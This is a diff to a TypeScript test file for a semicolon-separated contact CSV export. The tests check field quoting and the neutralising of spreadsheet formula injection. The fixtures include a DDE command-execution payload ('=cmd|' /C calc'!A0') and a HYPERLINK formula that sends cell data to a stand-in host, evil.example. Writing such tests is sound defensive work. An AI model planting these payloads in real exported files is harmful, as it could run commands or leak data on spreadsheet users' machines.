@@ -1,30 +1,35 @@
 import { describe, expect, test } from 'vitest';
+import { expectNoFormulaCell, readCsv } from '../../../tests/csv';
 import { contactsCsv } from './contacts-export';
 
 describe('contact CSV export (management.md section 9: semicolon separator; name, number, email)', () => {
-  test('one header line and one line per contact, separated by semicolons', () => {
+  test('one header line and one line per contact, every field quoted, separated by semicolons', () => {
     expect(
       contactsCsv([
         { name: 'Ana', number: '5511999990001', email: 'ana@x.dev' },
         { name: 'Bob', number: '5511999990002', email: null },
       ]),
-    ).toBe('name;number;email\r\nAna;5511999990001;ana@x.dev\r\nBob;5511999990002;\r\n');
+    ).toBe('"name";"number";"email"\r\n"Ana";"5511999990001";"ana@x.dev"\r\n"Bob";"5511999990002";""\r\n');
   });
-  test('values holding a semicolon, a quote or a line break are quoted', () => {
-    expect(contactsCsv([{ name: 'Silva; Ana "Aninha"', number: '1', email: '' }]).split('\r\n')[1]).toBe(
-      '"Silva; Ana ""Aninha""";1;',
-    );
+  test('values holding a semicolon, a comma, a quote or a line break read back whole', () => {
+    const csv = contactsCsv([{ name: 'Silva; Ana "Aninha", SP', number: '1', email: 'two\r\nlines' }]);
+    expect(readCsv(csv, ';')[1]).toEqual(['Silva; Ana "Aninha", SP', '1', 'two\r\nlines']);
   });
-  test('cells a spreadsheet would run as a formula (= + - @ tab CR first) are prefixed with an apostrophe', () => {
+  test('names written as formulas (= + - @ tab CR first) are text with an apostrophe, read with ; or with ,', () => {
     const csv = contactsCsv([
-      { name: '=HYPERLINK("http://evil.example/?"&A1,"Click")', number: '1', email: '' },
-      { name: "+cmd|' /C calc'!A0", number: '-2', email: '@SUM(1+1)' },
+      { name: "=cmd|' /C calc'!A0", number: '1', email: '' },
+      { name: '=HYPERLINK("http://evil.example/?"&A1,"Click")', number: '-2', email: '@SUM(1+1)' },
       { name: '\tTab', number: '\r3', email: 'ana@x.dev' },
+      { name: '+55 11', number: '5511', email: '' },
       { name: 'Ana = Bob', number: '5511', email: '' },
-    ]).split('\r\n');
-    expect(csv[1]).toBe('"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")";1;');
-    expect(csv[2]).toBe("'+cmd|' /C calc'!A0;'-2;'@SUM(1+1)");
-    expect(csv[3]).toBe('\'\tTab;"\'\r3";ana@x.dev');
-    expect(csv[4]).toBe('Ana = Bob;5511;');
+    ]);
+    expectNoFormulaCell(csv);
+    expect(readCsv(csv, ';').slice(1)).toEqual([
+      ["'=cmd|' /C calc'!A0", '1', ''],
+      ['\'=HYPERLINK("http://evil.example/?"&A1,"Click")', "'-2", "'@SUM(1+1)"],
+      ["'\tTab", "'\r3", 'ana@x.dev'],
+      ["'+55 11", '5511', ''],
+      ['Ana = Bob', '5511', ''],
+    ]);
   });
 });
